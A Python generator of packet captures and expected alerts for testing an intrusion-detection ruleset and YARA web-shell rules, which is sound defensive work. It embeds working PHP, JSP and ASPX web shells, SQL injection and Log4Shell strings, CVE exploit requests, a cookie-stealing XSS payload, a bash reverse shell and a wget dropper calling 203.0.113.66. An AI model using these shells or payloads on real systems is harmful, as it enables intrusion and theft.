#!/usr/bin/env python3
"""Writes the captures of Canh's own ruleset test (tests/scripts/suite-canh-rules.sh)
and the captures of the YARA engine's test.

    mkpcap-canh.py OUTDIR

One capture per case, OUTDIR/<case>.pcap, and the list of cases in OUTDIR/cases.tsv, one
line per case:

    <case> TAB <expected SIDs of rules/canh/*.rules> TAB <expected YARA rules> TAB <what it holds>

The expected SIDs are the exact alerts the sensor must give on the capture with every
file of rules/canh/ loaded: "SID" once, "SID*N" N times, space-separated; "-" means no
alert at all (the benign-* cases). The YARA column is the same for rules/yara/*.yar
(YARA_EXPECT below). Cases are named after the theme of the rule they are made
for (web-, webshell-, exploit-, scan-, cred-, c2-, miner-, malware-); some attacks fire
rules of several themes, as they do in real traffic, and the case then lists them all.

The yara-* captures are also for the YARA engine's test (rules/yara/):
yara-eicar-chunked-gzip (an EICAR file downloaded with Transfer-Encoding: chunked and
Content-Encoding: gzip), yara-webshell-upload (a PHP web shell uploaded in a
multipart/form-data POST), yara-webshell-download (a web shell downloaded by a plain
GET) and yara-webshell-samples (one sample per other web shell rule). The samples they
carry are the module-level constants EICAR, WEBSHELL_* below; CLEAN_SOURCES are
ordinary sources no YARA rule may match (benign-source-files).

The packet builders are those of mkpcap-rules.py (imported, not copied): complete TCP
conversations (handshake, every segment ACKed, FIN both ways), correct checksums,
Ethernet/IPv4, 1 ms apart. Addresses are documentation ranges only: attackers and
clients in 203.0.113.0/24 and 192.0.2.0/24, servers in 198.51.100.0/24; host names are
under .example, except the names the rules are about (mining pools, tunnels, callback
domains). Only the standard library is used."""

import gzip
import importlib.util
import os
import struct
import sys

_HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location("mkpcap_rules", os.path.join(_HERE, "mkpcap-rules.py"))
mr = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(mr)

ATTACKER = "203.0.113.66"     # an attacker on the Internet
STAFF = "192.0.2.10"          # a workstation of the agency
STAFF2 = "192.0.2.11"
PORTAL = "198.51.100.20"      # the agency's web portal
MAILSRV = "198.51.100.25"     # its mail server
RESOLVER = "198.51.100.53"    # its DNS resolver
C2 = "198.51.100.77"          # an attacker's server
POOL = "198.51.100.90"        # a mining pool

HOST = "congthongtin.tinh.example"

UA_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/124.0.0.0 Safari/537.36")
UA_FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0"
UA_SAFARI = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
             "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1")
UA_EDGE = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67")
UA_CURL = "curl/8.5.0"

# --- samples ---------------------------------------------------------------------------

# The standard 68-byte EICAR anti-virus test file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
assert len(EICAR) == 68

# A PHP web shell as attackers upload them: a command runner and a China Chopper style
# eval of a base64 POST parameter.
WEBSHELL_PHP_UPLOAD = b"""<?php
error_reporting(0);
if (isset($_REQUEST['cmd'])) {
    echo "<pre>";
    $c = $_REQUEST['cmd'];
    system($c);
    echo "</pre>";
    die;
}
@eval(base64_decode($_POST['z0']));
?>
"""

# A web shell fetched with wget/curl onto a compromised server (served as text).
WEBSHELL_PHP_DOWNLOAD = b"""<?php
/* mini file manager */
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
@set_time_limit(0);
if (!empty($_POST['pass'])) { @eval(base64_decode($_POST['pass'])); }
if (isset($_GET['c'])) { echo '<pre>' . shell_exec($_GET['c']) . '</pre>'; }
?>
"""

WEBSHELL_JSP = b"""<%@ page import="java.io.*" %>
<%
    String c = request.getParameter("cmd");
    if (c != null) {
        Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l;
        while ((l = r.readLine()) != null) { out.println(l); }
    }
%>
"""

WEBSHELL_ASPX = b'<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>\n'

# One sample per rule of rules/yara/canh-webshells.yar not covered by the samples above
# (file name -> content), downloaded in yara-webshell-samples.pcap.
WEBSHELL_SAMPLES = {
    "chopper.php": b"<?php @eval($_POST['chopper']);?>\n",
    "packed.php": b"<?php eval(gzinflate(base64_decode('" + b"7b1rc9tIkiD4uSP6P2BVu3f30Uxx" * 10 + b"')));\n",
    "wso.php": (b"<?php\n$auth_pass = \"63a9f0ea7bb98050796b649e85481845\";\n$color = \"#df5\";\n"
                b"$default_action = 'FilesMan';\n@define('WSO_VERSION', '2.5');\nfunction wsoHeader() { }\n"),
    "b374k.php": b"<?php\n/* b374k shell 3.2.3 */\n$GLOBALS['pass'] = 'b374k';\n$GLOBALS['module_to_load'] = array();\n",
    "behinder.jsp": (b'<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader'
                     b'{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>'
                     b'<%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);'
                     b'Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));'
                     b'new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer('
                     b'request.getReader().readLine()))).newInstance().equals(pageContext);}%>\n'),
    "cmd.aspx": (b'<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ '
                 b'var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); '
                 b'psi.RedirectStandardOutput = true; var p = System.Diagnostics.Process.Start(psi); '
                 b'Response.Write(p.StandardOutput.ReadToEnd()); }</script>\n'),
}

# Ordinary server-side sources no web shell rule may match, downloaded in
# benign-source-files.pcap.
CLEAN_SOURCES = {
    "index.php": (b"<?php\n/**\n * Front to the WordPress application. This file doesn't do anything, but loads\n"
                  b" * wp-blog-header.php which does and tells WordPress to load the theme.\n */\n"
                  b"define( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n"),
    "BackupController.php": (b"<?php\nnamespace App\\Http\\Controllers;\nclass BackupController extends Controller {\n"
                             b"    public function run(Request $request) {\n"
                             b"        $name = basename($request->input('name'));\n"
                             b"        exec('/usr/bin/pg_dump -Fc portal > /var/backups/' . escapeshellarg($name), $out, $rc);\n"
                             b"        $uptime = shell_exec('uptime');\n        $page = $_GET['page'] ?? 1;\n"
                             b"        $data = json_decode(base64_decode($_POST['payload']), true);\n"
                             b"        return view('backup', ['rc' => $rc, 'uptime' => $uptime]);\n    }\n}\n"),
    "header.php": (b"<?php $title = $_GET['title'] ?? 'Trang chu'; ?><html><head><title><?= htmlspecialchars($title) ?>"
                   b"</title><script>var x = eval('(' + json + ')');</script></head><body><?php echo date('Y'); ?>\n"),
    "login.jsp": (b'<%@ page contentType="text/html; charset=UTF-8" %><% String user = request.getParameter("user"); '
                  b'Runtime rt = Runtime.getRuntime(); long free = rt.freeMemory(); '
                  b'if (user != null) { session.setAttribute("user", user); } %><html>Xin chao <%= user %></html>\n'),
    "Default.aspx": (b'<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" Inherits="Portal._Default" %>'
                     b'<html><body><% var q = Request.QueryString["q"]; %><%= Server.HtmlEncode(q) %></body></html>\n'),
}

# --- building blocks ---------------------------------------------------------------------

MSS = 1400


def b(s):
    return s if isinstance(s, bytes) else s.encode("utf-8")


def send(c, data, to_server):
    """Sends 'data' in segments of at most MSS bytes, each ACKed by the peer."""
    for i in range(0, len(data), MSS):
        (c.client if to_server else c.server)(data[i:i + MSS])


def conv(cap, cli, srv, sport, dport, exchanges):
    """One TCP conversation: handshake, then for each (client bytes, server bytes) of
    'exchanges' the client's data then the server's (either may be empty), then close."""
    c = mr.Tcp(cap, sport, dport, cli, srv)
    c.handshake()
    for up, down in exchanges:
        if up:
            send(c, b(up), True)
        if down:
            send(c, b(down), False)
    c.close()


def req(method, uri, body=None, headers=(), host=HOST, ua=UA_CHROME, ctype=None,
        version="HTTP/1.1"):
    """An HTTP request. 'uri' is sent as given (already %-encoded where a client would)."""
    lines = [b"%s %s %s" % (b(method), b(uri), b(version)), b"Host: " + b(host)]
    if ua is not None:
        lines.append(b"User-Agent: " + b(ua))
    lines.append(b"Accept: */*")
    lines.append(b"Accept-Language: vi-VN,vi;q=0.9,en-US;q=0.8")
    for h in headers:
        lines.append(b(h))
    if body is not None:
        body = b(body)
        if ctype is not None:
            lines.append(b"Content-Type: " + b(ctype))
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + (body or b"")


def resp(body=b"<html><body>OK</body></html>\n", status=b"200 OK", ctype="text/html; charset=utf-8",
         headers=(), encoding=None, chunks=None):
    """An HTTP/1.1 response; encoding 'gzip' compresses the body; 'chunks' (a list of chunk
    sizes) sends it with Transfer-Encoding: chunked."""
    body = b(body)
    lines = [b"HTTP/1.1 " + b(status), b"Server: nginx", b"Content-Type: " + b(ctype)]
    for h in headers:
        lines.append(b(h))
    if encoding == "gzip":
        body = gzip.compress(body, compresslevel=9, mtime=0)
        lines.append(b"Content-Encoding: gzip")
    if chunks is not None:
        lines.append(b"Transfer-Encoding: chunked")
        body = mr.chunked(body, list(chunks))
    else:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def form(*pairs):
    """application/x-www-form-urlencoded body of (name, value) pairs, UTF-8, as a
    browser encodes it."""
    from urllib.parse import quote_plus
    return "&".join("%s=%s" % (quote_plus(k), quote_plus(v)) for k, v in pairs)


def multipart(fields, files, boundary="----WebKitFormBoundaryCanh7MA4YWxkTrZu0gW"):
    """multipart/form-data body and its Content-Type: 'fields' (name, value) and 'files'
    (name, filename, content type, bytes)."""
    out = b""
    for name, value in fields:
        out += (b"--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n" %
                (b(boundary), b(name), b(value)))
    for name, filename, ctype, data in files:
        out += (b"--%s\r\nContent-Disposition: form-data; name=\"%s\"; filename=\"%s\"\r\n"
                b"Content-Type: %s\r\n\r\n" % (b(boundary), b(name), b(filename), b(ctype)))
        out += data + b"\r\n"
    out += b"--%s--\r\n" % b(boundary)
    return out, "multipart/form-data; boundary=" + boundary


def dns_query(name, qid, qtype=1):
    return (struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + mr.dns_name(name) +
            struct.pack("!HH", qtype, 1))


def dns_answer(name, qid, addr=(198, 51, 100, 99)):
    return (struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + mr.dns_name(name) +
            struct.pack("!HH", 1, 1) + struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + bytes(addr))


def dns_lookups(cap, client, names, sport=53000):
    """One query and its answer per name, each from its own client port."""
    for i, name in enumerate(names):
        qid = 0x4000 + i
        cap.add(client, RESOLVER, 17, mr.udp(client, RESOLVER, sport + i, 53, dns_query(name, qid)))
        cap.add(RESOLVER, client, 17, mr.udp(RESOLVER, client, 53, sport + i, dns_answer(name, qid)))


def filler(n, seed=7):
    """n deterministic pseudo-random bytes (a linear congruential generator), for file
    bodies."""
    out = bytearray()
    x = seed
    for _ in range(n):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out.append((x >> 16) & 0xFF)
    return bytes(out)


# --- the case list ---------------------------------------------------------------------

CASES = []   # (name, expected, description, build(cap))

# The YARA rules (rules/yara/*.yar) each case's files must match: "RULE" for one file
# alert, "RULE*N" for N (alert.metadata.yara_scanned "file"; stream scans, which also see
# the uploads and the clear-text responses, are not counted). Cases not listed must give
# no YARA alert at all, on files or streams.
YARA_EXPECT = {
    "yara-eicar-chunked-gzip": "CANH_EICAR_Test_File",
    "malware-eicar-upload": "CANH_EICAR_Test_File",
    "yara-webshell-upload": "CANH_Webshell_PHP_Eval_Decoded_Input CANH_Webshell_PHP_Command_Runner",
    "yara-webshell-download": "CANH_Webshell_PHP_Eval_Decoded_Input CANH_Webshell_PHP_Command_Runner",
    "yara-webshell-samples": ("CANH_Webshell_PHP_Eval_Request CANH_Webshell_PHP_Packed_Eval CANH_Webshell_PHP_WSO_FilesMan "
                              "CANH_Webshell_PHP_Known_Family CANH_Webshell_JSP_ClassLoader CANH_Webshell_ASPX_Cmd_Process"),
    "webshell-upload-jsp": "CANH_Webshell_JSP_Runtime_Exec",
    "webshell-upload-aspx": "CANH_Webshell_ASPX_Eval_Request",
    "webshell-upload-polyglot": "CANH_Webshell_PHP_Command_Runner",
    "webshell-download-jsp": "CANH_Webshell_JSP_Runtime_Exec",
    "webshell-download-aspx": "CANH_Webshell_ASPX_Eval_Request",
    "exploit-wp-file-manager": "CANH_Webshell_PHP_Command_Runner",
}


def case(name, expect, doc):
    def deco(fn):
        CASES.append((name, expect, doc, fn))
        return fn
    return deco


def web(name, expect, doc, *requests, client=ATTACKER, server=PORTAL, port=80, response=None):
    """A case of one connection per request, each answered by 'response' (a small 200
    page by default)."""
    def build(cap):
        for i, r in enumerate(requests):
            conv(cap, client, server, 41000 + i, port, [(r, response or resp())])
    CASES.append((name, expect, doc, build))


def G(uri, **kw):
    return req("GET", uri, **kw)


def P(uri, body, ctype="application/x-www-form-urlencoded", **kw):
    return req("POST", uri, body=body, ctype=ctype, **kw)


# === web-attacks.rules ====================================================================

web("web-sqli-union-uri", "8810001*2", "UNION ALL SELECT with CONCAT, and UNION/**/SELECT with comments, in query strings",
    G("/tin-tuc/chi-tiet.php?id=-1+UNION+ALL+SELECT+NULL,CONCAT(username,0x3a,password),NULL+FROM+users--+-"),
    G("/van-ban/xem?id=1/**/union/**/select/**/1,2,3"))
web("web-sqli-union-body", "8810002", "UNION SELECT in a url-encoded form field",
    P("/tra-cuu-ho-so", "ma_ho_so=1%27+union+select+1%2C2%2Cversion%28%29--+-&captcha=x7k2"))
web("web-sqli-time-sleep", "8810003*2", "SLEEP(5) and PG_SLEEP(10) time-based blind injection",
    G("/van-ban?id=1%27+AND+SLEEP(5)--+-"),
    G("/tin-tuc?id=1);SELECT+PG_SLEEP(10)--"))
web("web-sqli-benchmark", "8810004", "BENCHMARK() time-based blind injection",
    G("/tin-tuc?id=1+AND+BENCHMARK(5000000,MD5(0x41))"))
web("web-sqli-waitfor", "8810005", "WAITFOR DELAY on SQL Server",
    G("/chi-tiet.aspx?id=1%27;WAITFOR+DELAY+%270:0:5%27--"))
web("web-sqli-information-schema", "8810006", "information_schema.tables enumeration",
    G("/tin-tuc?id=1+AND+(SELECT+COUNT(*)+FROM+information_schema.tables)>0"))
web("web-sqli-tautology-uri", "8810007*2", "' or '1'='1 and 1 or 1=1 in query strings",
    G("/dang-nhap.php?user=admin%27+or+%271%27=%271&pass=x"),
    G("/tin-tuc?id=1+or+1=1"))
web("web-sqli-tautology-body", "8810008 8850002", "login bypass admin' or 1=1-- in a login form over HTTP (also a clear-text password)",
    P("/dang-nhap", "tendangnhap=admin%27+or+1%3D1--+-&matkhau=123456"))
web("web-sqli-error-based", "8810009", "EXTRACTVALUE(1,CONCAT(0x7e,...)) error-based injection",
    G("/tin-tuc?id=1+and+extractvalue(1,concat(0x7e,(select+@@version),0x7e))"))
web("web-sqli-order-by", "8810010", "ORDER BY 10 column count probing after a quote",
    G("/tin-tuc?id=1%27+ORDER+BY+10--+-"))

web("web-xss-script-uri", "8810101", "<script>alert(document.domain)</script> in a search",
    G("/tim-kiem?q=%3Cscript%3Ealert(document.domain)%3C/script%3E"))
web("web-xss-javascript-uri", "8810102", "javascript: URL in a redirect parameter",
    G("/dang-xuat?redirect=javascript:alert(1)"))
web("web-xss-event-handler", "8810103*2", "<img src=x onerror=...> and <svg/onload=...>",
    G("/tim-kiem?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    G("/tim-kiem?q=%3Csvg/onload%3Dalert(1)%3E"))
web("web-xss-document-cookie", "8810104", "cookie theft through document.cookie in a parameter",
    G("/gioi-thieu?ref=x%22;new%20Image().src=%27//203.0.113.66/c?%27%2Bdocument.cookie;//"))
web("web-xss-body", "8810105", "stored XSS attempt: <script>alert(document.cookie)</script> in a feedback form",
    P("/gop-y", form(("ho_ten", "Nguyễn Văn A"), ("noi_dung", "<script>alert(document.cookie)</script>"))))

web("web-traversal-dotdot", "8810201", "../../../../ in a file parameter",
    G("/download.php?file=../../../../var/www/html/config.php"))
web("web-traversal-encoded", "8810202*2", "..%2f and %252e%252e%252f encoded traversal",
    G("/static/..%2f..%2f..%2fapp%2fconfig.yml"),
    G("/img/%252e%252e%252f%252e%252e%252fweb.config"))
web("web-traversal-etc-passwd", "8810203", "/etc/passwd in a page parameter",
    G("/index.php?page=/etc/passwd"))
web("web-traversal-win-ini", "8810204", "C:\\windows\\win.ini in a file parameter",
    G("/show.aspx?f=C:%5Cwindows%5Cwin.ini"))
web("web-lfi-php-wrapper", "8810205", "php://filter/convert.base64-encode file inclusion",
    G("/index.php?page=php://filter/convert.base64-encode/resource=config"))
web("web-lfi-proc-self", "8810206", "/proc/self/environ file inclusion",
    G("/index.php?page=/proc/self/environ"))

web("web-cmdi-separator", "8810301*4", ";id, |whoami, &&uname -a and $(whoami) after a parameter value",
    G("/ping.php?ip=127.0.0.1;id"),
    G("/tools/dns.php?host=example.vn%7Cwhoami"),
    G("/diag?ip=1.1.1.1%26%26uname+-a"),
    G("/api/check?host=%24(whoami)"))
web("web-cmdi-bin-sh", "8810302", "newline then /bin/sh -c in a CGI parameter",
    G("/cgi-bin/test.cgi?x=1%0a/bin/sh+-c+ls"))
web("web-cmdi-cmd-exe", "8810303", "&cmd.exe /c dir after a host name",
    G("/api/ping?host=127.0.0.1%26cmd.exe+/c+dir"))
web("web-cmdi-powershell-enc", "8810304", "|powershell -nop -w hidden -enc <base64>",
    G("/api/ping?host=127.0.0.1%7Cpowershell+-nop+-w+hidden+-enc+"
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"))
web("web-cmdi-reverse-shell", "8810305", "bash -i >& /dev/tcp/203.0.113.66/4444 reverse shell",
    G("/ping.php?ip=1;bash+-i+%3E%26+/dev/tcp/203.0.113.66/4444+0%3E%261"))
web("web-cmdi-body", "8810306", ";cat /etc/passwd in a router diagnostic form",
    P("/cgi-bin/diag.cgi", "ping_ip=127.0.0.1%3Bcat+%2Fetc%2Fpasswd&submit=Ping"))
web("web-cmdi-dropper", "8810307", "Mozi-style dropper: wget http://.../Mozi.m -O /tmp/x;sh x",
    G("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.66/Mozi.m"
      "+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"))

web("web-log4shell-uri", "8810401", "${jndi:ldap://...} in a query string",
    G("/?q=%24%7Bjndi:ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ=%7D"))
web("web-log4shell-header", "8810402", "${jndi:ldap://...} in User-Agent and X-Api-Version",
    G("/", ua="${jndi:ldap://203.0.113.66:1389/ua}",
      headers=("X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}",)))
web("web-log4shell-obfuscated-header", "8810403*2", "${${lower:j}ndi:...} in X-Forwarded-For and ${${::-j}${::-n}${::-d}${::-i}:...} in Referer",
    G("/", headers=("X-Forwarded-For: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.66/a}",)),
    G("/", headers=("Referer: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.66/b}",)))
web("web-log4shell-obfuscated-uri", "8810404", "${${env:NaN:-j}ndi...} in a query string",
    G("/?x=%24%7B%24%7Benv:NaN:-j%7Dndi%24%7Benv:NaN:-:%7D%24%7Benv:NaN:-l%7Ddap%24%7Benv:NaN:-:%7D"
      "//203.0.113.66/c%7D"))
web("web-log4shell-body", "8810405", "${jndi:ldap://...} in a JSON login field",
    P("/api/auth", '{"tenDangNhap":"${jndi:ldap://203.0.113.66:1389/x}","maCaptcha":"1234"}',
      ctype="application/json"))

# === webshells.rules =======================================================================


@case("yara-webshell-upload", "8820001 8820004 8820105",
      "multipart/form-data POST uploading shell.php (WEBSHELL_PHP_UPLOAD): a PHP upload, code execution functions, eval(base64_decode($_POST)) in the body")
def yara_webshell_upload(cap):
    body, ctype = multipart([("MAX_FILE_SIZE", "2000000"), ("mo_ta", "Ảnh đại diện")],
                            [("tep_tin", "shell.php", "application/x-php", WEBSHELL_PHP_UPLOAD)])
    conv(cap, ATTACKER, PORTAL, 41000, 80,
         [(P("/quan-tri/tai-len.php", body, ctype=ctype), resp(b"<html>Tai len thanh cong</html>"))])


def upload_case(name, expect, doc, filename, ftype, data, uri="/upload"):
    def build(cap):
        body, ctype = multipart([("submit", "Upload")], [("file", filename, ftype, data)])
        conv(cap, ATTACKER, PORTAL, 41000, 80, [(P(uri, body, ctype=ctype), resp())])
    CASES.append((name, expect, doc, build))


upload_case("webshell-upload-jsp", "8820002", "cmd.jsp running Runtime.getRuntime().exec(request.getParameter)",
            "cmd.jsp", "application/octet-stream", WEBSHELL_JSP)
upload_case("webshell-upload-aspx", "8820003", "China Chopper ASPX one-liner uploaded as up.aspx",
            "up.aspx", "application/octet-stream", WEBSHELL_ASPX)
upload_case("webshell-upload-polyglot", "8820004", "avatar.jpg: a JPEG header followed by <?php system($_GET['c']); ?>",
            "avatar.jpg", "image/jpeg",
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" +
            b"<?php system($_GET['c']); ?>" + b"\xff\xd9")

web("webshell-access-names", "8820101*2", "requests for wso.php and c99.php",
    G("/wp-content/uploads/2024/05/wso.php"),
    G("/images/c99.php?act=ls"))


@case("webshell-access-cmd", "8820102 8820103 8820201",
      "GET /uploads/shell.php?cmd=id answered with uid=33(www-data) gid=33(www-data)")
def webshell_access_cmd(cap):
    conv(cap, ATTACKER, PORTAL, 41000, 80,
         [(G("/uploads/shell.php?cmd=id"),
           resp(b"<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>"))])


@case("webshell-chopper-php", "8820104 8820105 8820202",
      "China Chopper PHP client: caidao=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQ... and its ->|...|<- answer")
def webshell_chopper_php(cap):
    body = ("caidao=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0="
            "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTtlY2hvKCItPnwiKTs7ZWNobyhnZXRjd2QoKSk7ZWNobygifDwtIik7ZGllKCk7")
    conv(cap, ATTACKER, PORTAL, 41000, 80,
         [(P("/uploads/1.php", body), resp(b"->|/var/www/html|<-", ctype="text/html"))])


@case("webshell-chopper-aspx", "8820106 8820202",
      "China Chopper ASPX client: eval(System.Text.Encoding...FromBase64String(...)) and its ->|...|<- answer")
def webshell_chopper_aspx(cap):
    body = ("pass=Response.Write(%22-%3E%7C%22)%3Bvar+err%3AException%3Btry%7Beval(System.Text.Encoding."
            "GetEncoding(65001).GetString(System.Convert.FromBase64String(%22UmVzcG9uc2UuV3JpdGUoImhpIik7%22))"
            "%2C%22unsafe%22)%3B%7Dcatch(err)%7BResponse.Write(%22ERROR%3A%2F%2F%20%22%2Berr.message)%3B%7D"
            "Response.Write(%22%7C%3C-%22)%3BResponse.End()%3B")
    conv(cap, ATTACKER, PORTAL, 41000, 80,
         [(P("/upload/1.aspx", body), resp(b"->|hi|<-", ctype="text/html"))])


web("webshell-wso-panel", "8820203", "a WSO 2.5 panel (FilesMan form) served by a planted admin.php",
    G("/wp-content/plugins/hello/admin.php"),
    response=resp(b"<html><head><title>WSO 2.5</title></head><body><form method=post name=mf>"
                  b"<input type=hidden name=a value='FilesMan'><input type=hidden name=c value='/var/www'>"
                  b"</form></body></html>"))


@case("yara-webshell-download", "8820204",
      "plain GET /tools/shell.txt whose response body is a PHP web shell (WEBSHELL_PHP_DOWNLOAD), as wget fetches it onto a compromised server")
def yara_webshell_download(cap):
    conv(cap, PORTAL, C2, 41000, 80,
         [(G("/tools/shell.txt", host="198.51.100.77", ua="Wget/1.21.3"),
           resp(WEBSHELL_PHP_DOWNLOAD, ctype="text/plain"))])


web("webshell-download-jsp", "8820205", "a JSP shell served as text",
    G("/x/cmd.txt", host="198.51.100.77", ua="curl/7.88.1"), client=PORTAL, server=C2,
    response=resp(WEBSHELL_JSP, ctype="text/plain"))
web("webshell-download-aspx", "8820206", "an ASPX one-liner served as text",
    G("/x/a.txt", host="198.51.100.77", ua="curl/7.88.1"), client=PORTAL, server=C2,
    response=resp(WEBSHELL_ASPX, ctype="text/plain"))

# === exploits.rules ========================================================================

XMLRPC_MULTICALL = b"""<?xml version="1.0"?>
<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>
<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>
<member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value>
<value><string>123456</string></value></data></array></value></data></array></value></member></struct></value>
<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>
<member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value>
<value><string>admin@123</string></value></data></array></value></data></array></value></member></struct></value>
</data></array></value></param></params></methodCall>
"""

web("exploit-wp-xmlrpc-multicall", "8830001", "xmlrpc.php system.multicall carrying wp.getUsersBlogs logins",
    P("/xmlrpc.php", XMLRPC_MULTICALL, ctype="text/xml"))


@case("exploit-wp-xmlrpc-bruteforce", "8830002",
      "ten xmlrpc.php wp.getUsersBlogs logins from one source within a second (threshold: one alert)")
def wp_xmlrpc_brute(cap):
    for i in range(10):
        body = (b"<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params>"
                b"<param><value>admin</value></param><param><value>matkhau%d</value></param></params>"
                b"</methodCall>" % i)
        conv(cap, ATTACKER, PORTAL, 41000 + i, 80,
             [(P("/xmlrpc.php", body, ctype="text/xml"), resp(b"<methodResponse/>", ctype="text/xml"))])


@case("exploit-wp-login-bruteforce", "8830003 8850002",
      "ten wp-login.php POSTs from one source (threshold: one alert; the clear-text password rule reports the pair once)")
def wp_login_brute(cap):
    for i in range(10):
        body = form(("log", "admin"), ("pwd", "matkhau%d" % i), ("wp-submit", "Log In"),
                    ("redirect_to", "http://congthongtin.tinh.example/wp-admin/"), ("testcookie", "1"))
        conv(cap, ATTACKER, PORTAL, 41000 + i, 80, [(P("/wp-login.php", body), resp())])


def wp_file_manager(cap):
    body, ctype = multipart([("cmd", "upload"), ("target", "l1_Lw")],
                            [("upload[]", "x.php", "application/x-php", b'<?php system($_GET["c"]); ?>\n')])
    conv(cap, ATTACKER, PORTAL, 41000, 80,
         [(P("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", body, ctype=ctype),
           resp(b'{"added":[{"name":"x.php"}]}', ctype="application/json"))])


CASES.append(("exploit-wp-file-manager", "8830004 8820001 8820004",
              "CVE-2020-25213: upload of x.php through connector.minimal.php (also a PHP web shell upload)",
              wp_file_manager))
web("exploit-wp-revslider", "8830005", "revslider_show_image&img=../wp-config.php",
    G("/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"))
web("exploit-joomla-cve-2023-23752", "8830020", "/api/index.php/v1/config/application?public=true",
    G("/api/index.php/v1/config/application?public=true"),
    response=resp(b'{"links":{},"data":[]}', ctype="application/vnd.api+json"))
web("exploit-drupalgeddon2-8", "8830030 8830031", "Drupal 8 user/register with element_parents=account/mail/#value and mail[#post_render][]=exec",
    P("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
      "form_id=user_register_form&_drupal_ajax=1&mail%5B%23post_render%5D%5B%5D=exec&mail%5B%23type%5D=markup"
      "&mail%5B%23markup%5D=id"))
web("exploit-drupalgeddon2-7", "8830031", "Drupal 7 user/password with name[#post_render][]=passthru in the query",
    G("/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup"
      "&name%5B%23markup%5D=uname+-a"))
web("exploit-laravel-ignition", "8830040", "CVE-2021-3129 _ignition/execute-solution with a php://filter viewFile",
    P("/_ignition/execute-solution",
      '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":'
      '{"variableName":"x","viewFile":"php://filter/write=convert.quoted-printable-decode/resource=../storage/logs/laravel.log"}}',
      ctype="application/json"))
web("exploit-thinkphp-invokefunction", "8830050", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
    G("/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"))
web("exploit-thinkphp-construct", "8830051", "ThinkPHP 5.0.23 _method=__construct&filter[]=system",
    P("/index.php?s=captcha", "_method=__construct&filter%5B%5D=system&method=get&server%5BREQUEST_METHOD%5D=id"))
web("exploit-phpunit-eval-stdin", "8830060", "CVE-2017-9841 POST to vendor/phpunit/.../eval-stdin.php",
    P("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo md5('canh'); ?>", ctype="text/plain"))

